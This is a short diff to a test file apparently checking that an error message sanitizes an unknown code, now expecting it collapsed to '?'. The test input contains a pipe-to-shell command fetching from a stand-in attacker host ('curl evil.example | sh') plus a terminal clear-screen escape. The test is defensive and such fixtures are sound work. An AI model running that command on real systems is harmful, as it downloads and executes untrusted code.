@@ -65,7 +65,7 @@ test.each(Object.getOwnPropertyNames(Object.prototype))(
 
 test("a code that would fill lines or pages of a message is a word in it", () => {
   const { message } = judged(400, `x\n  curl evil.example | sh\u001b[2J${"x".repeat(10_000)}`, POST) as RecordError;
-  expect(message).toMatch(/^awork refused the record: x\?\?\?curl[\w.:?-]{1,80} \(EndOn\), trace id abc$/);
+  expect(message).toBe("awork refused the record: ? (EndOn), trace id abc");
 });
 
 test("a code that is not known is this record's failure too, and leads to awork's support", () => {
